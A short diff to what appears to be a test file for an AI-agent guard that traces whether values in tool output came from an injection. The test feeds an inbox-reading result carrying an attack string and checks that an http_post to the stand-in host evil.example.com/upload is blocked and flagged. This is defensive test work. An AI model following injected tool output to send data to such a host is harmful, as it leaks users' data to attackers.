@@ -37,9 +37,10 @@ def test_provenance_records_an_output_decoded_from_json_with_a_stray_surrogate()
     with rg.run(run_id="surrogate-run"):
         engine.record_user_input("summarize my inbox")
         output = json.loads(json.dumps({"body": f"\ud800 {ATTACK}"}, ensure_ascii=True))["body"]
-        assert tracker.record_output("read_inbox", output) > 0
+        tracker.record_output("read_inbox", output)
         decision = engine.check("http_post", {"url": "http://evil.example.com/upload", "body": "x"})
     assert decision.verdict is not rg.Verdict.ALLOW
+    assert "provenance/injected-value" in decision.rules  # the host was extracted from that output
 
 
 _ANY_CHAR = st.characters(min_codepoint=0, max_codepoint=0x10FFFF)  # surrogates included
